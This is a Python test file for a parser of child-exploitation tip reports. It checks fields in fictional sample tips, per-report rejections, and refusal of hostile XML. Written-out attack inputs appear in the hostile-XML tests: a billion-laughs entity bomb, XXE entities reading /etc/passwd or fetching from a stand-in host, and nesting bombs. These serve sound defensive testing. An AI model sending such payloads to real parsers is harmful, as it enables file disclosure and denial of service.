"""Import files: the three sample formats, per-report rejections, and hostile XML refused whole
with its own error type."""

from __future__ import annotations

import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from cpu_icac.domain.parsing import (
    MalformedTipFile,
    TipFileError,
    TipFileTooLarge,
    UnsafeXml,
    UnsupportedTipFormat,
    XmlDtdForbidden,
    XmlEntityForbidden,
    XmlExternalReferenceForbidden,
    XmlTooDeep,
    detect_format,
    iter_tip_file,
    parse_tip_file,
)
from cpu_icac.domain.tip_report import FileRef, IpEvent, TipReport

DATA = Path(__file__).parent / "data"  # copies of ../shared/data samples


def reports(name: str) -> list[TipReport]:
    items = parse_tip_file((DATA / name).read_bytes())
    assert all(item.ok for item in items), [item.rejection for item in items]
    return [item.report for item in items if item.report is not None]


def at(text: str) -> datetime:
    return datetime.fromisoformat(text.replace("Z", "+00:00")).astimezone(UTC)


# --- the samples ---------------------------------------------------------------------------


def test_jsonl_sample() -> None:
    first, second, third = reports("sample-tips.jsonl")
    assert first.key == ("ncmec", "CT-2026-100000001")
    assert first.incident_type == "child_sexual_abuse_material"
    assert first.incident_at == at("2026-10-03T14:22:00Z")
    assert first.provider_priority == "2"
    assert first.reporter is not None and first.reporter.name == "Example Social Network"
    person = first.reported_persons[0]
    assert person.screen_names == ("lotus_boy_77",)
    assert person.emails == ("user77@example.com",)
    assert person.phones == ("+85512345678",)
    assert person.ip_events == (
        IpEvent(ip="203.0.113.45", event="upload", at=at("2026-10-03T14:20:11Z")),
        IpEvent(ip="203.0.113.45", event="login", at=at("2026-10-03T13:02:40Z")),
    )
    assert [(v.age_estimate, v.sex) for v in first.victims] == [(12, "female")]
    assert first.files == (
        FileRef(
            file_name="IMG_0042.jpg",
            md5="0cc175b9c0f1b6a831c399e269772661",
            sha1="86f7e437faa5a7fce15d1ddcb9eaeaea377667b8",
            pdq="ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb",
            viewed_by_provider=True,
            publicly_available=False,
        ),
    )

    assert second.key == ("hsi", "HSI-KH-2026-0193")
    assert second.incident_type == "online_enticement"
    assert second.provider_priority == "1"
    assert second.reported_persons[0].screen_names == ("teacher_sr",)
    assert second.reported_persons[0].phones == ("+85597000111",)
    assert second.files == ()
    assert second.narrative is not None and "Siem Reap" in second.narrative

    assert third.key == ("esp:example-video", "EV-88811")
    assert third.provider_priority == "E"
    assert third.victims == ()
    assert third.files[0].pdq is None
    assert third.files[0].publicly_available is True
    assert third.reported_persons[0].ip_events[0].event == "registration"


def test_cybertipline_xml_sample() -> None:
    first, second = reports("sample-tips.xml")
    assert first.key == ("ncmec", "100000002")
    assert first.incident_type == "child_sexual_abuse_material"
    assert first.incident_at == at("2026-10-05T09:15:00Z")
    assert first.provider_priority == "2"
    assert first.annotations == ()
    assert first.escalation_reason is None
    assert first.reporter is not None
    assert (first.reporter.name, first.reporter.email) == (
        "Example Cloud Storage",
        "safety-reports@example.com",
    )
    person = first.reported_persons[0]
    assert person.screen_names == ("kh_share_2",)
    assert person.emails == ("storage_user@example.com",)
    assert person.phones == ("+85512345679",)  # countryCallingCode + number
    assert person.ip_events == (
        IpEvent(ip="203.0.113.77", event="upload", at=at("2026-10-05T09:14:02Z")),
    )
    assert [v.age_estimate for v in first.victims] == [10]
    assert first.files == (
        FileRef(
            file_name="photo_01.jpg",
            md5="0cc175b9c0f1b6a831c399e269772661",
            sha1="86f7e437faa5a7fce15d1ddcb9eaeaea377667b8",
            viewed_by_provider=True,
            publicly_available=False,
        ),
    )
    assert first.narrative == "Account shared the folder with three other accounts."

    assert second.key == ("ncmec", "100000004")
    assert second.incident_type == "online_enticement"
    assert second.provider_priority == "1"
    assert second.annotations == ("sextortion",)
    assert second.escalation_reason == "User asked the child to meet in person this weekend."
    assert second.reported_persons[0].screen_names == ("teacher_sr",)
    assert second.reported_persons[0].ip_events[0] == IpEvent(
        ip="198.51.100.23", event="login", at=at("2026-10-06T20:30:00Z")
    )
    assert [v.age_estimate for v in second.victims] == [13]
    assert second.files == ()


def test_cmt_export_sample() -> None:
    (report,) = reports("sample-cmt-export.json")
    assert report.key == ("ncmec", "100000005")
    assert report.incident_type == "child_sexual_abuse_material"
    assert report.incident_at == at("2026-10-07T22:05:31Z")
    assert report.provider_priority is None
    assert report.reporter is not None and report.reporter.name == "Example Social Network"
    person = report.reported_persons[0]
    assert person.screen_names == ("Lotus_Boy_77",)
    assert person.emails == ("User77@Example.com",)
    assert person.phones == ("+855 12 345 678",)
    assert person.ip_events == (
        IpEvent(ip="203.0.113.45", event="upload", at=at("2026-10-07T22:05:02Z")),
        IpEvent(ip="203.0.113.46", event="login", at=at("2026-10-07T21:40:10Z")),
    )
    assert report.files == (
        FileRef(
            file_name="IMG_0107.jpg",
            md5="0cc175b9c0f1b6a831c399e269772661",
            viewed_by_provider=True,
        ),
    )
    assert report.narrative == "Account created 2025-03-02; previously reported."


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("sample-tips.jsonl", "jsonl"),
        ("sample-tips.xml", "cybertip_xml"),
        ("sample-cmt-export.json", "cmt_json"),
    ],
)
def test_formats_are_told_apart(name: str, expected: str) -> None:
    data = (DATA / name).read_bytes()
    assert detect_format(data[:200]) == expected
    assert detect_format(b"\xef\xbb\xbf\n  " + data[:200]) == expected


def test_a_file_object_streams_like_bytes() -> None:
    data = (DATA / "sample-tips.xml").read_bytes()
    from_stream = parse_tip_file(io.BytesIO(data))
    assert [i.report for i in from_stream] == [i.report for i in parse_tip_file(data)]


def test_progress_reports_items_done() -> None:
    lines = (DATA / "sample-tips.jsonl").read_bytes().splitlines()
    done: list[int] = []
    items = parse_tip_file(b"\n".join(lines * 3), progress=done.append, progress_every=2)
    assert len(items) == 9
    assert done == [2, 4, 6, 8, 9]


# --- JSON lines: one bad line, one rejection ------------------------------------------------


def test_jsonl_rejects_bad_lines_only() -> None:
    good = (DATA / "sample-tips.jsonl").read_text().splitlines()
    bad_md5 = json.loads(good[0])
    bad_md5["report_id"] = "CT-BAD-MD5"
    bad_md5["files"][0]["md5"] = "not-a-hash"
    no_type = json.loads(good[1])
    del no_type["incident_type"]
    payload = json.loads(good[2])
    payload["report_id"] = "EV-PAYLOAD"
    payload["files"][0]["content"] = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"
    text = "\n".join(
        [
            good[0],
            "{this is not json",
            json.dumps(bad_md5),
            "",
            json.dumps(no_type),
            good[1],
            json.dumps(payload),
            "[1, 2, 3]",
            good[2],
        ]
    )
    items = parse_tip_file(text.encode())
    assert [(i.index, i.location, i.ok) for i in items] == [
        (0, "line 1", True),
        (1, "line 2", False),
        (2, "line 3", False),
        (3, "line 5", False),
        (4, "line 6", True),
        (5, "line 7", False),
        (6, "line 8", False),
        (7, "line 9", True),
    ]
    rejections = {i.location: i for i in items if not i.ok}
    assert rejections["line 2"].rejection is not None
    assert rejections["line 2"].rejection.reason.startswith("report: Invalid JSON")
    assert rejections["line 3"].report_id == "CT-BAD-MD5"
    assert rejections["line 3"].rejection.reasons == (  # type: ignore[union-attr]
        "files[0].md5: not an MD5 hash (32 hexadecimal digits)",
    )
    assert rejections["line 5"].report_id == "HSI-KH-2026-0193"
    assert rejections["line 5"].rejection.reasons == ("incident_type: Field required",)  # type: ignore[union-attr]
    assert rejections["line 7"].rejection.code == "file_payload"  # type: ignore[union-attr]
    assert rejections["line 7"].report_id == "EV-PAYLOAD"
    assert rejections["line 8"].report_id is None
    assert "not-a-hash" not in rejections["line 3"].rejection.reason  # type: ignore[union-attr]


# --- XML, report by report -----------------------------------------------------------------

SUBMISSION = """<submission reportId="{rid}" priority="2"><report>
  <incidentSummary><incidentType>{itype}</incidentType>
    <incidentDateTime>2026-10-05T09:15:00Z</incidentDateTime></incidentSummary>
  <lawEnforcement><agencyName>ignored</agencyName></lawEnforcement>
  <personOrUserReported><screenName>someone</screenName>
    <associatedAccount><screenName>ignored</screenName></associatedAccount>
    <deviceId>ignored</deviceId></personOrUserReported>
  <intendedRecipient><screenName>ignored</screenName></intendedRecipient>
</report>{files}</submission>"""


def bundle(*submissions: str) -> bytes:
    return (
        f'<?xml version="1.0"?><reports provider="ncmec">{"".join(submissions)}</reports>'.encode()
    )


def test_xml_bad_reports_are_rejected_and_good_ones_go_in() -> None:
    csam = "Child Pornography (possession, manufacture, and distribution)"
    md5 = '<originalFileHash hashType="MD5">{}</originalFileHash>'
    data = bundle(
        SUBMISSION.format(rid="1", itype=csam, files=""),
        SUBMISSION.format(rid="2", itype="Bicycle Theft", files=""),
        SUBMISSION.format(
            rid="3", itype=csam, files=f"<fileDetails>{md5.format('XYZ')}</fileDetails>"
        ),
        SUBMISSION.format(rid="", itype=csam, files=""),
        SUBMISSION.format(
            rid="5",
            itype=csam,
            files="<fileDetails><reportId>6</reportId>"
            + md5.format("0cc175b9c0f1b6a831c399e269772661")
            + "</fileDetails>",
        ),
        SUBMISSION.format(
            rid="7",
            itype=csam,
            files="<fileDetails>"
            + md5.format("0cc175b9c0f1b6a831c399e269772661")
            + "<fileData>/9j/4AAQSkZJRgABAQEASABIAAD</fileData></fileDetails>",
        ),
        SUBMISSION.format(rid="8", itype="online_enticement", files=""),
    )
    items = parse_tip_file(data)
    outcome = {
        i.location: (i.report_id, i.rejection.reasons if i.rejection else "ok") for i in items
    }
    assert outcome == {
        "submission 1": ("1", "ok"),
        "submission 2": ("2", ("incidentSummary.incidentType: not a CyberTipline incident type",)),
        "submission 3": ("3", ("files[0].md5: not an MD5 hash (32 hexadecimal digits)",)),
        "submission 4": (None, ("submission.reportId: missing or not a report id",)),
        "submission 5": ("5", ("fileDetails[0].reportId: does not match the submission",)),
        "submission 6": (
            "7",
            ("fileDetails.fileData: file content is refused: send only hashes and metadata",),
        ),
        "submission 7": ("8", "ok"),
    }
    assert items[5].rejection is not None and items[5].rejection.code == "file_payload"
    assert items[0].report is not None
    assert items[0].report.reported_persons[0].screen_names == ("someone",)


def test_bare_report_takes_the_given_id_or_a_content_hash() -> None:
    bare = (
        b"<report><incidentSummary><incidentType>Child Sex Trafficking</incidentType>"
        b"</incidentSummary><victim><victimPerson><dateOfBirth>2014-06-01</dateOfBirth>"
        b"</victimPerson></victim></report>"
    )
    (given,) = parse_tip_file(bare, report_id="HSI-2026-7", provider="hsi")
    assert given.report is not None and given.report.key == ("hsi", "HSI-2026-7")
    (first,) = parse_tip_file(bare)
    (again,) = parse_tip_file(bare.replace(b"><", b">\n  <"))  # same content, other layout
    assert first.report is not None and again.report is not None
    assert first.report.report_id.startswith("xml-") and len(first.report.report_id) == 36
    assert again.report.report_id == first.report.report_id
    assert first.report.provider == "ncmec"
    assert first.report.provider_priority is None


def test_bare_report_age_from_date_of_birth() -> None:
    bare = (
        b"<report><incidentSummary><incidentType>Child Sexual Molestation</incidentType>"
        b"<incidentDateTime>2026-10-05T09:15:00Z</incidentDateTime></incidentSummary>"
        b"<victim><victimPerson><dateOfBirth>2014-10-06</dateOfBirth></victimPerson></victim>"
        b"</report>"
    )
    (item,) = parse_tip_file(bare, report_id="X-1")
    assert item.report is not None and item.report.victims[0].age_estimate == 11


def test_xml_with_a_default_namespace_is_read() -> None:
    data = (
        (DATA / "sample-tips.xml")
        .read_bytes()
        .replace(b"<report ", b'<report xmlns="https://report.cybertip.org/ispws/xsd" ')
    )
    assert [i.report_id for i in parse_tip_file(data) if i.ok] == ["100000002", "100000004"]


# --- hostile XML: the whole file is refused -------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<reports><submission reportId="1"><report><additionalInfo>&lol9;</additionalInfo></report>
</submission></reports>"""


@pytest.mark.parametrize(
    ("document", "error", "words"),
    [
        (BILLION_LAUGHS, XmlEntityForbidden, "entity"),
        (
            b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            b"<reports><submission reportId='1'><report><additionalInfo>&xxe;</additionalInfo>"
            b"</report></submission></reports>",
            XmlExternalReferenceForbidden,
            "external",
        ),
        (
            b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://198.51.100.9/secret">]><report>&xxe;</report>',
            XmlExternalReferenceForbidden,
            "external",
        ),
        (
            b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://198.51.100.9/evil.dtd"> %p;]><report/>',
            XmlExternalReferenceForbidden,
            "external",
        ),
        (
            b'<!DOCTYPE report SYSTEM "http://198.51.100.9/report.dtd"><report/>',
            XmlExternalReferenceForbidden,
            "external",
        ),
        (b"<!DOCTYPE report [<!ELEMENT report ANY>]><report/>", XmlDtdForbidden, "DTD"),
        (b"<!DOCTYPE report><report/>", XmlDtdForbidden, "DTD"),
        (
            b"<reports>" + b"<x>" * 64 + b"</x>" * 64 + b"</reports>",
            XmlTooDeep,
            "deeper than 64",
        ),
        (
            b"<reports><submission reportId='1'><report></submission></reports>",
            MalformedTipFile,
            "not well-formed",
        ),
        (b"<reports><submission reportId='1'>", MalformedTipFile, "not well-formed"),
        (b"<report>&undeclared;</report>", MalformedTipFile, "not well-formed"),
    ],
    ids=[
        "billion-laughs",
        "external-entity-file",
        "external-entity-http",
        "external-parameter-entity",
        "external-dtd",
        "dtd",
        "doctype",
        "depth-65",
        "malformed",
        "truncated",
        "undeclared-entity",
    ],
)
def test_hostile_xml_is_refused_whole(
    document: bytes, error: type[TipFileError], words: str
) -> None:
    with pytest.raises(error) as caught:
        parse_tip_file(document)
    assert caught.value.http_status == 400
    assert words in str(caught.value)
    for secret in ("/etc/passwd", "198.51.100.9", "lol"):
        assert secret not in str(caught.value)


def test_unsafe_xml_errors_share_a_base() -> None:
    for error in (XmlEntityForbidden, XmlExternalReferenceForbidden, XmlDtdForbidden, XmlTooDeep):
        assert issubclass(error, UnsafeXml)
        assert issubclass(error, TipFileError)


def test_depth_64_is_allowed() -> None:
    document = b"<reports>" + b"<x>" * 63 + b"</x>" * 63 + b"</reports>"
    assert parse_tip_file(document) == []


def test_deep_nesting_is_stopped_early() -> None:
    document = b"<reports>" + b"<x>" * 1_000_000  # never closed: refused at level 65
    with pytest.raises(XmlTooDeep):
        parse_tip_file(document)


@pytest.mark.parametrize("as_stream", [False, True])
def test_oversize_is_refused_with_413(as_stream: bool) -> None:
    data = (DATA / "sample-tips.xml").read_bytes()
    source = io.BytesIO(data) if as_stream else data
    with pytest.raises(TipFileTooLarge) as caught:
        parse_tip_file(source, max_bytes=len(data) - 1)
    assert caught.value.http_status == 413
    assert "limit" in str(caught.value)
    assert len(parse_tip_file(data, max_bytes=len(data))) == 2


def test_streaming_can_yield_before_a_late_refusal() -> None:
    # 2 MB: the first chunks hold complete submissions, the limit is hit later.
    one = SUBMISSION.format(rid="{}", itype="online_enticement", files="")
    data = bundle(*(one.format(n) for n in range(1, 4000)))
    seen = []
    with pytest.raises(TipFileTooLarge):
        for item in iter_tip_file(io.BytesIO(data), max_bytes=len(data) // 2):
            seen.append(item)
    assert seen and all(item.ok for item in seen)
    with pytest.raises(TipFileTooLarge):
        parse_tip_file(io.BytesIO(data), max_bytes=len(data) // 2)  # all or nothing


@pytest.mark.parametrize(
    "data", [b"", b"   \n", b"hello", b"\x89PNG\r\n\x1a\n", b"<html><body/></html>"]
)
def test_unsupported_files_are_refused_with_415(data: bytes) -> None:
    with pytest.raises(UnsupportedTipFormat) as caught:
        parse_tip_file(data)
    assert caught.value.http_status == 415


# --- CMT export ----------------------------------------------------------------------------


def test_cmt_list_with_one_bad_report() -> None:
    good = json.loads((DATA / "sample-cmt-export.json").read_text())
    payload = json.loads(json.dumps(good))
    payload["reportId"] = 100000006
    payload["reportedInformation"]["uploadedFiles"]["uploadedFiles"][0]["fileContent"] = "/9j/4AAQ"
    unknown_type = json.loads(json.dumps(good))
    unknown_type["reportId"] = 100000007
    unknown_type["reportedInformation"]["incidentSummary"]["incidentType"] = "Spam"
    items = parse_tip_file(json.dumps([good, payload, unknown_type, "nonsense"]).encode())
    assert [(i.report_id, i.ok) for i in items] == [
        ("100000005", True),
        ("100000006", False),
        ("100000007", False),
        (None, False),
    ]
    assert items[1].rejection is not None and items[1].rejection.code == "file_payload"
    assert items[1].rejection.reasons == (
        "reportedInformation.uploadedFiles.uploadedFiles[0].fileContent: "
        "file content is refused: send only hashes and metadata",
    )
    assert items[2].rejection is not None
    assert items[2].rejection.reasons == (
        "incidentSummary.incidentType: not a CyberTipline incident type",
    )


def test_cmt_that_is_not_json_is_refused_whole() -> None:
    with pytest.raises(MalformedTipFile):
        parse_tip_file(b'{\n  "reportId": 1,\n  "reportedInformation": {', format="cmt_json")


def test_jsonl_lines_across_read_chunks_and_a_blank_prefix() -> None:
    lines = (DATA / "sample-tips.jsonl").read_bytes().splitlines()
    data = b"\n" * 70_000 + b"\n".join(lines * 120) + b"\n"  # several 64 KiB reads
    items = parse_tip_file(io.BytesIO(data))
    assert len(items) == 360 and all(item.ok for item in items)
    assert items[0].location == "line 70001"


def test_jsonl_with_a_broken_first_line_is_still_jsonl() -> None:
    good = (DATA / "sample-tips.jsonl").read_bytes()
    items = parse_tip_file(b'{"provider": "ncmec", "report_id": "X-1", "incident\n' + good)
    assert [i.ok for i in items] == [False, True, True, True]
    assert items[0].rejection is not None
    assert items[0].rejection.reason.startswith("report: Invalid JSON")
